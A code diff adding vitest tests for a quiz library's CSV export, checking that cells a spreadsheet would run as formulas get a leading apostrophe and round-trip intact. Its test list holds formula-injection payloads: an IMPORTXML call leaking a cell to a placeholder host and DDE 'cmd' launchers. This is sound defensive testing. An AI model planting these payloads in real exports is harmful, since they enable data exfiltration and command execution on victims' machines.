@@ -1,6 +1,7 @@
 import vm from "node:vm";
+import { parse as parseCsv } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
-import { parseAikenQuestions, parseCsvQuestions, parseGiftQuestions, toCsv, toGift, type ExportQuestion } from "~/lib/import/formats";
+import { parseAikenQuestions, parseCsvQuestions, parseGiftQuestions, safeCsvCell, toCsv, toGift, type ExportQuestion } from "~/lib/import/formats";
 
 const unsupported = (qs: { kind: string; errors: string[] }[]) => qs.filter((q) => q.kind !== "mcq").map((q) => [q.kind, q.errors[0]]);
 
@@ -165,5 +166,50 @@ describe("export then import", () => {
   it("is the identity through GIFT (escapes, LaTeX backslashes and braces survive)", () => {
     const back = strip(parseGiftQuestions(toGift(questions)).questions);
     expect(back).toEqual(questions.map((q) => ({ ...q, options: q.options.map((o) => ({ ...o, body: o.body.trim() })) })));
+  });
+});
+
+describe("CSV export and spreadsheet formulas", () => {
+  const hostile = [
+    '=HYPERLINK("http://x","y")',
+    '=IMPORTXML("http://x/?leak="&A1,"//a")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "@SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+  ];
+  const question = (options: string[], more: Partial<ExportQuestion> = {}): ExportQuestion => ({
+    intro: "",
+    body: "কোনটি?",
+    options: options.map((body, i) => ({ body, isCorrect: i === 0 })),
+    explanation: "",
+    sources: [],
+    marks: "1",
+    difficulty: null,
+    ...more,
+  });
+
+  it("writes every cell a spreadsheet would run as a formula with a leading apostrophe", () => {
+    const csv = toCsv([question(hostile.slice(0, 5), { body: hostile[5], explanation: hostile[6], intro: hostile[7] })]);
+    const [, row] = parseCsv(csv, { bom: true, relax_column_count: true }) as string[][];
+    const written = row.filter((cell) => hostile.some((h) => cell.endsWith(h)));
+    expect(written).toHaveLength(hostile.length);
+    for (const cell of written) expect(cell).toMatch(/^'[=+\-@\t\r]/);
+    expect(safeCsvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
+    expect(safeCsvCell("\t=1")).toBe("'\t=1");
+    expect(safeCsvCell("২ - ১")).toBe("২ - ১");
+  });
+
+  it("reads the apostrophe off again: maths options and formula-like text come back as they were", () => {
+    const options = ["-1", "+2", "=3", "@x", "'=4"];
+    const original = question(options, { body: "=SUM(1,2) কত?", explanation: "''-১ কারণ", intro: "@উদ্দীপক" });
+    const csv = toCsv([original]);
+    expect(csv).toContain(",'-1,'+2,'=3,'@x,''=4,");
+    const [back] = parseCsvQuestions(csv).questions;
+    expect(back.errors).toEqual([]);
+    expect(back).toMatchObject({ body: original.body, explanation: original.explanation, intro: original.intro });
+    expect(back.options.map((o) => o.body)).toEqual(options);
   });
 });
